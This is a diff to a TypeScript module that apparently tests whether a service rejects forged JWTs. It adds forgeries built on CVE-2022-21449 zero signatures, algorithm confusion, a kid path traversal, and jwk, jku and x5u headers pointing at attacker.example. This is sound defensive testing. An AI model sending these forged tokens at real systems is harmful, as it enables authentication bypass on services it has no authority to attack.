@@ -1,7 +1,14 @@
-import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, sign } from "node:crypto";
+import {
+  createHmac,
+  createPublicKey,
+  generateKeyPairSync,
+  type JsonWebKey,
+  type KeyPairKeyObjectResult,
+  sign,
+} from "node:crypto";
 import { attackCase, Skipped, tally } from "../../case.ts";
-import { isRefusal, settled, wrongCodes } from "../../sign-in.ts";
-import { guess, openHere, signInHere, withBearer } from "../sign-in.ts";
+import { isRefusal, known, settled, wrongCodes } from "../../sign-in.ts";
+import { guess, openHere, problemOf, signInHere, withBearer } from "../sign-in.ts";
 
 /** A text with one character of base64url changed, at each of so many places. */
 export function flipped(text: string, places: number): string[] {
@@ -17,16 +24,31 @@ const part = (value: object) => Buffer.from(JSON.stringify(value)).toString("bas
 const parsed = (text: string) =>
   JSON.parse(Buffer.from(text, "base64url").toString() || "{}") as Readonly<Record<string, unknown>>;
 
+const ZEROS = Buffer.alloc(64).toString("base64url");
+
+type Algorithm = "RS256" | "ES256";
+
+/** A stranger's keys of both kinds. */
+function strangersKeys(): Readonly<Record<Algorithm, KeyPairKeyObjectResult>> {
+  return {
+    RS256: generateKeyPairSync("rsa", { modulusLength: 2048 }),
+    ES256: generateKeyPairSync("ec", { namedCurve: "P-256" }),
+  };
+}
+
 /** Tokens that look like this one, and that only a mistake would believe. @param keys as the target publishes them */
 export function forgedTokens(token: string, keys: readonly JsonWebKey[]): string[] {
   const [head = "", payload = "", signature = ""] = token.split(".");
   const header = parsed(head);
   const claims = parsed(payload);
-  const own = generateKeyPairSync("rsa", { modulusLength: 2048 });
-  const ownKey = own.publicKey.export({ format: "jwk" });
-  const signed = (by: object, body = payload) => {
-    const text = `${part(by)}.${body}`;
-    return `${text}.${sign("sha256", Buffer.from(text), own.privateKey).toString("base64url")}`;
+  const alg = header.alg === "ES256" ? "ES256" : "RS256";
+  const other = alg === "ES256" ? "RS256" : "ES256";
+  const strangers = strangersKeys();
+  const signed = (by: object, kind: Algorithm = alg) => {
+    const text = `${part(by)}.${payload}`;
+    // ES256 wants both numbers one behind the other (RFC 7518, 3.4); RSA does not look at this.
+    const key = { key: strangers[kind].privateKey, dsaEncoding: "ieee-p1363" } as const;
+    return `${text}.${sign("sha256", Buffer.from(text), key).toString("base64url")}`;
   };
   const secrets = keys.flatMap((key) => {
     const pem = createPublicKey({ key, format: "jwk" }).export({ type: "spki", format: "pem" }).toString();
@@ -44,11 +66,19 @@ export function forgedTokens(token: string, keys: readonly JsonWebKey[]): string
     `${head}.${part({ ...claims, exp: 4_102_444_800 })}.${signature}`,
     `${head}.${payload}.${flipped(signature, 1)[0] ?? ""}`,
     `${head}.${payload}.`,
+    // Zeros, which a library that left out a check once took for a signature of any text (CVE-2022-21449).
+    ...keys.map(({ kid }) => `${part({ ...header, kid, alg: "ES256" })}.${payload}.${ZEROS}`),
+    // A key of the other kind under the target's own names.
+    signed(header, other),
+    ...keys.map(({ kid, kty }) => {
+      const foreign = kty === "EC" ? "RS256" : "ES256";
+      return signed({ ...header, kid, alg: foreign }, foreign);
+    }),
     // A key of the attacker's under the target's own name, under none, in the header, and at a place of theirs.
     signed(header),
     signed({ ...header, kid: "made-up" }),
     signed({ ...header, kid: "../../../../dev/null" }),
-    signed({ ...header, jwk: ownKey }),
+    signed({ ...header, jwk: strangers[alg].publicKey.export({ format: "jwk" }) }),
     signed({ ...header, jku: "https://attacker.example/jwks.json" }),
     signed({ ...header, x5u: "https://attacker.example/cert.pem", crit: ["x5u"] }),
   ];
@@ -68,6 +98,7 @@ export const forgeryCases = [
       const forged = [...flipped(challengeId, 24), challengeId.slice(0, -4), "x", ""];
       const answers = await Promise.all(forged.map((one) => guess(client, one, wrong)));
       const right = await guess(client, challengeId, code);
+      if (problemOf(right) === "incorrect-code") known({ kind: "incorrect" });
       return {
         held:
           settled([...answers, right])
@@ -104,7 +135,7 @@ export const forgeryCases = [
     proves:
       "a token that is unsigned, signed with a public key or a stranger's, or changed, is believed nowhere",
     needs: ["latchkey"],
-    cost: { requests: 200, messages: 1 },
+    cost: { requests: 300, messages: 1 },
     async run(attack) {
       const { token } = await signInHere(attack);
       const visitor = attack.target.client();
